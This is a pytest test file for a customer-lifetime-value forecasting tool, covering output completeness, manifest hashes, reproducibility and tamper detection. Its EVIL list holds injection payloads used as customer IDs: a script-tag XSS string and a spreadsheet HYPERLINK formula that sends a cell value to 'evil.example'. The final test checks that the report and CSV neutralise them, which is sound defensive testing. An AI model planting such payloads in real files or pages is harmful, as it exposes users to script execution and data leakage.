"""From a log to a backtest, a forecast and a report: complete, the same twice, harmless."""

import hashlib
import json
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pandas as pd
import pytest

from forecast.backtest import Backtest
from forecast.jobs import load_forecast
from forecast.ledger import read_ledger
from forecast.ledger.storage import load_ledger

Run = Callable[..., Any]
EVIL = [
    "<script>alert(1)</script>",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1",
    "@SUM(A1:A9)",
    "-2+3",
    "\ttab",
    "[bold]red[/bold]",
]


def test_forecast_folder_is_complete(future: Path) -> None:
    names = {path.name for path in future.iterdir()}
    assert names == {
        "audit.csv", "backtest", "customers.csv", "customers.parquet", "forecast.json", "ledger",
        "manifest.json", "periods.csv", "report.html", "totals.parquet",
    }  # fmt: skip
    customers = pd.read_parquet(future / "customers.parquet")
    assert len(customers) == len(pd.read_csv(future / "customers.csv")) > 50
    assert customers["customer_id"].is_monotonic_increasing
    periods = pd.read_csv(future / "periods.csv")
    assert len(periods) == 8
    for column in ("expected_purchases", "expected_value"):
        assert customers[column].sum() == pytest.approx(periods[column].sum())
    totals = pd.read_parquet(future / "totals.parquet")
    assert len(totals) == 50 * 8
    assert totals.groupby("period")["purchases"].quantile(0.95).to_numpy() == pytest.approx(
        periods["purchases_hi_90"].to_numpy()
    )


def test_backtest_folder_is_complete(proof: Path) -> None:
    names = {path.name for path in proof.iterdir()}
    assert names == {
        "audit.csv", "backtest", "leaderboard_purchases.csv", "leaderboard_purchases_all.csv",
        "leaderboard_value.csv", "leaderboard_value_all.csv", "ledger", "manifest.json",
        "report.html",
    }  # fmt: skip
    found = Backtest.load(proof / "backtest")
    board = pd.read_csv(proof / "leaderboard_purchases.csv", index_col=0)
    pd.testing.assert_frame_equal(board, found.leaderboard("purchases"))
    alls = pd.read_csv(proof / "leaderboard_value_all.csv", index_col=0)
    assert "seasonal_series" in alls.index


@pytest.mark.parametrize("made", ["future", "proof"])
def test_manifest_tells_how_and_hashes_everything(
    made: str, shop: Path, request: pytest.FixtureRequest
) -> None:
    folder = request.getfixturevalue(made)
    manifest = json.loads((folder / "manifest.json").read_text())
    hashes = {
        path.relative_to(folder).as_posix(): hashlib.sha256(path.read_bytes()).hexdigest()
        for path in folder.rglob("*")
        if path.is_file() and path.name != "manifest.json"
    }
    assert manifest["files"] == hashes
    assert manifest["command"] == {"future": "forecast", "proof": "backtest"}[made]
    ledger = read_ledger(str(shop))
    assert manifest["data"] == ledger.summary_hash()
    assert manifest["cutoff"] == str(ledger.cutoff)
    assert manifest["rows"] == len(shop.read_text().splitlines()) - 1
    assert manifest["seed"] == {"future": 3, "proof": 0}[made]
    assert set(manifest["versions"]) == {"python", "ltv-forecast", "numpy", "pandas", "scipy"}


def test_manifest_keeps_how_the_log_was_read(ltv: Run, shop: Path, tmp_path: Path) -> None:
    out = tmp_path / "out"
    roles = ("--customer", "customer_id", "--date", "date", "--returns", "drop", "--no-key")
    road = ("--horizon", "8W", "--draws", 0, "--model", "own_rate", "--every", "2W", "--out", out)
    assert ltv("forecast", shop, *roles, *road).code == 0
    manifest = json.loads((out / "manifest.json").read_text())
    assert manifest["reading"] == {
        "customer": "customer_id", "date": "date", "returns": "drop", "key": [],
    }  # fmt: skip
    assert (manifest["model"], manifest["every"], manifest["draws"]) == ("own_rate", "2W", 0)
    periods = pd.read_csv(out / "periods.csv")
    assert len(periods) == 4
    assert periods["expected_value"].isna().all()  # no amounts were named
    assert not (out / "totals.parquet").exists()


def test_report_shows_the_backtest_of_the_same_model(future: Path) -> None:
    page = (future / "report.html").read_text()
    assert "according to btyd" in page
    assert "No model of the backtest is named" not in page
    assert "No backtest is part of this report" not in page
    assert Backtest.load(future / "backtest").models == ("btyd", "own_rate", "seasonal_series")
    saved = load_forecast(future)
    assert saved.model == "btyd"
    assert saved.notes[0].startswith("btyd is ")


@pytest.mark.parametrize("made", ["future", "proof"])
def test_report_is_made_anew_the_same(
    made: str, ltv: Run, tmp_path: Path, request: pytest.FixtureRequest
) -> None:
    folder = shutil.copytree(request.getfixturevalue(made), tmp_path / "copy")
    first = (folder / "report.html").read_bytes()
    manifest = (folder / "manifest.json").read_bytes()
    (folder / "report.html").unlink()
    for _ in range(2):
        ended = ltv("report", folder)
        assert ended.code == 0, ended.err
        assert ended.out == f"Report: {folder}/report.html\n"
        assert (folder / "report.html").read_bytes() == first
        assert (folder / "manifest.json").read_bytes() == manifest
    assert not [path for path in folder.rglob("*") if path.name.startswith(".")]


def test_report_that_fails_leaves_the_old_page(
    ltv: Run, future: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, snapshot: Run
) -> None:
    from forecast.report import table_files

    folder = shutil.copytree(future, tmp_path / "copy")
    before = snapshot(folder)

    def fail(*_: Any) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(table_files.os, "replace", fail)
    ended = ltv("report", folder)
    assert ended.code == 6
    assert "No space left" in ended.err
    assert snapshot(folder) == before


@pytest.mark.parametrize(
    "name", ["customers.parquet", "periods.csv", "ledger/days.parquet", "backtest/meta.json"]
)
def test_changed_and_missing_files_are_found(
    name: str, ltv: Run, future: Path, tmp_path: Path
) -> None:
    folder = shutil.copytree(future, tmp_path / "copy")
    data = bytearray((folder / name).read_bytes())
    data[len(data) // 2] ^= 1
    (folder / name).write_bytes(data)
    ended = ltv("report", folder)
    assert ended.code == 3
    assert f"not as they were written: '{name}'" in ended.err
    (folder / name).unlink()
    ended = ltv("report", folder)
    assert ended.code == 3
    assert f"missing: '{name}'" in ended.err


def test_changed_backtest_is_no_proof(ltv: Run, shop: Path, proof: Path, tmp_path: Path) -> None:
    folder = shutil.copytree(proof, tmp_path / "copy")
    (folder / "backtest" / "runs.csv").write_text("nothing")
    road = ("--horizon", "8W", "--backtest", folder, "--out", tmp_path / "out")
    ended = ltv("forecast", shop, *road)
    assert ended.code == 3
    assert "'backtest/runs.csv'" in ended.err
    assert not (tmp_path / "out").exists()


def test_same_seed_gives_the_same_bytes_and_another_seed_does_not(
    ltv: Run, shop: Path, proof: Path, future: Path, tmp_path: Path, snapshot: Run
) -> None:
    road = ("forecast", shop, "--horizon", "8W", "--model", "btyd", "--draws", 50)
    road = (*road, "--backtest", proof)
    assert ltv(*road, "--seed", 3, "--out", tmp_path / "same").code == 0
    assert snapshot(tmp_path / "same") == snapshot(future)
    assert ltv(*road, "--seed", 4, "--out", tmp_path / "other").code == 0
    other = snapshot(tmp_path / "other")
    changed = {name for name, digest in snapshot(future).items() if other[name] != digest}
    assert changed >= {"customers.parquet", "periods.csv", "totals.parquet", "report.html"}
    assert not any(name.startswith("ledger/") for name in changed)


def test_order_of_rows_does_not_matter(ltv: Run, shop: Path, future: Path, tmp_path: Path) -> None:
    head, *rows = shop.read_text().splitlines()
    (tmp_path / "orders.csv").write_text("\n".join([head, *sorted(rows, reverse=True)]) + "\n")
    road = ("--horizon", "8W", "--model", "btyd", "--draws", 50, "--seed", 3)
    assert ltv("forecast", tmp_path / "orders.csv", *road, "--out", tmp_path / "out").code == 0
    for name in ("customers.parquet", "customers.csv", "periods.csv", "totals.parquet"):
        assert (tmp_path / "out" / name).read_bytes() == (future / name).read_bytes()


def test_backtest_is_the_same_but_for_seconds(
    ltv: Run, shop: Path, proof: Path, tmp_path: Path, snapshot: Run
) -> None:
    test = ("--horizon", "8W", "--origins", 2, "--draws", 20, "--out", tmp_path / "out")
    models = ("--models", "seasonal_series", "own_rate", "btyd")
    assert ltv("backtest", shop, *test, *models).code == 0
    mine, other = snapshot(tmp_path / "out"), snapshot(proof)
    assert {name for name in mine.keys() | other.keys() if mine.get(name) != other.get(name)} <= {
        "backtest/runs.csv", "manifest.json", "report.html", "leaderboard_purchases.csv",
        "leaderboard_purchases_all.csv", "leaderboard_value.csv", "leaderboard_value_all.csv",
    }  # fmt: skip


def test_totals_only_model_has_no_customers(ltv: Run, shop: Path, tmp_path: Path) -> None:
    road = ("--horizon", "8W", "--draws", 50, "--model", "seasonal_series", "--out")
    ended = ltv("forecast", shop, *road, tmp_path / "out")
    assert ended.code == 0, ended.err
    assert ended.out.startswith("seasonal_series, all customers, new ones included, 2023-")
    assert not (tmp_path / "out" / "customers.csv").exists()
    page = (tmp_path / "out" / "report.html").read_bytes()
    assert ltv("report", tmp_path / "out").code == 0
    assert (tmp_path / "out" / "report.html").read_bytes() == page


@pytest.fixture(scope="module")
def hostile(shop: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The sound log with its busiest customers renamed to something a reader may run."""
    orders = pd.read_csv(shop, dtype=str)
    busiest = orders["customer_id"].value_counts().index[: len(EVIL)]
    orders["customer_id"] = orders["customer_id"].replace(dict(zip(busiest, EVIL, strict=True)))
    path = tmp_path_factory.mktemp("hostile") / "<b>orders.csv"
    orders.to_csv(path, index=False)
    return path


def test_hostile_ids_are_harmless(ltv: Run, hostile: Path, tmp_path: Path) -> None:
    out = tmp_path / "out"
    road = ("--model", "btyd", "--horizon", "8W", "--draws", 50, "--out", out)
    ended = ltv("forecast", hostile, *road)
    assert ended.code == 0, ended.err
    raw = pd.read_parquet(out / "customers.parquet")["customer_id"]
    assert set(EVIL) <= set(raw)
    written = pd.read_csv(out / "customers.csv", dtype=str)["customer_id"]
    assert not written.str.match(r"[=+@\t-]").any()
    assert set(written) >= {EVIL[0], *(f"'{each}" for each in EVIL[1:6]), EVIL[6]}
    numbers = pd.read_csv(out / "customers.csv")
    assert all(numbers[column].dtype == float for column in numbers.columns[1:])
    page = (out / "report.html").read_text()
    assert "<script" not in page
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    assert "<b>orders.csv" not in page
    assert "[bold]red[/bold]" in page
    assert sorted(load_forecast(out).customers.index) == sorted(raw)
    assert set(EVIL) <= set(load_ledger(out / "ledger").purchases()["customer_id"])
    assert "<b>orders.csv" in ltv("audit", hostile).out
